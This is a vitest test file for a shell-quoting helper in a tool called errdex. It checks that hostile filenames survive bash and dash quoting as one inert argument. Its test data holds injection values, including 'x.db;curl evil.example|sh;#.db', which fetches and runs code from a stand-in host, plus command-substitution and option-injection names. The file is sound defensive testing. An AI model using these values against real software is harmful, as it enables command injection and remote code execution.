/**
 * One quoting function for every command errdex prints, proven by a real shell: each hostile
 * value comes back from the shell as exactly one argument, byte for byte, and nothing in it runs.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, existsSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { findNamePattern, shellPath, shellQuote, sqliteCommand } from '../../src/diagnostics/shell-quote.ts';

export const HOSTILE_NAMES = [
  'x.db;curl evil.example|sh;#.db',
  '$HOME$(id)`id`.db',
  "it's 'quoted'.db",
  '"double" \\ back\\slash.db',
  'two\nlines.db',
  'tab\tand\rreturn.db',
  '-rf.db',
  '--help',
  '*.db',
  '[a-z]?.db',
  'esc\u001b[2J\u001b[H.db',
  'rtl\u202eboc.db',
  'zero\u200bwidth.db',
  '空白 與 資料庫.db',
  '!history!$.db',
  '~/tilde.db',
  '',
];

/** What a shell makes of `printf '%s\0' WORDS`: the arguments it received. */
function argv(shell: string, words: string): string[] {
  const r = spawnSync(shell, ['-c', `printf '%s\\0' ${words}`], { encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
  return r.stdout.split('\0').slice(0, -1);
}

const hasHiddenCharacters = (s: string) => /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(s);

describe('shellQuote', () => {
  it.each(HOSTILE_NAMES.map((n) => [JSON.stringify(n), n]))('%s comes back from bash as one argument', (_label, name) => {
    expect(argv('bash', shellQuote(name))).toEqual([name]);
    // A quoted word never shows a control character raw.
    expect(hasHiddenCharacters(shellQuote(name))).toBe(false);
  });

  it.each(HOSTILE_NAMES.filter((n) => !hasHiddenCharacters(n)).map((n) => [JSON.stringify(n), n]))('%s comes back from POSIX sh (dash) too', (_label, name) => {
    expect(argv('sh', shellQuote(name))).toEqual([name]);
  });

  it('is always quoted, even when nothing needs it', () => {
    expect(shellQuote('data/app.db')).toBe("'data/app.db'");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('a\nb')).toBe("$'a\\nb'");
  });

  it('a path starting with a dash cannot be taken for an option', () => {
    expect(shellPath('-rf.db')).toBe("'./-rf.db'");
    expect(argv('bash', shellPath('--help'))).toEqual(['./--help']);
  });

  it('a find pattern matches only the name itself', () => {
    const dir = mkdtempSync(join(tmpdir(), 'errdex-find-'));
    for (const n of ['*.db', 'a.db', '[a-z]?.db', 'ab.db']) writeFileSync(join(dir, n), 'x');
    for (const name of ['*.db', '[a-z]?.db']) {
      const r = spawnSync('bash', ['-c', `find ${shellQuote(dir)} -name ${findNamePattern(name)}`], { encoding: 'utf8' });
      expect(r.stdout.trim().split('\n')).toEqual([join(dir, name)]);
    }
  });

  it('a suggested command with hostile names runs nothing but the command', () => {
    // Fake tools record their arguments; curl and id would record that they ran.
    const bin = mkdtempSync(join(tmpdir(), 'errdex-bin-'));
    const log = join(bin, 'calls');
    for (const tool of ['sqlite3', 'curl', 'id', 'sh']) {
      writeFileSync(join(bin, tool), `#!/bin/bash\nprintf '%s' "${tool}" >> ${shellQuote(log)}; for a in "$@"; do printf '\\0%s' "$a" >> ${shellQuote(log)}; done; printf '\\036' >> ${shellQuote(log)}\n`);
      chmodSync(join(bin, tool), 0o755);
    }
    for (const name of HOSTILE_NAMES.filter((n) => n !== '')) {
      const sql = `SELECT * FROM "${name.replace(/"/g, '""')}" WHERE x = '${name.replace(/'/g, "''")}';`;
      const command = sqliteCommand(name, sql);
      const r = spawnSync('/bin/bash', ['--norc', '-c', command], { encoding: 'utf8', env: { PATH: bin } });
      expect(r.status, `${command}\n${r.stderr}`).toBe(0);
      const calls = existsSync(log) ? spawnSync('cat', [log], { encoding: 'utf8' }).stdout.split('\u001e').slice(0, -1) : [];
      expect(calls).toEqual([['sqlite3', name.startsWith('-') ? `./${name}` : name, sql].join('\0')]);
      spawnSync('rm', ['-f', log]);
    }
  });
});
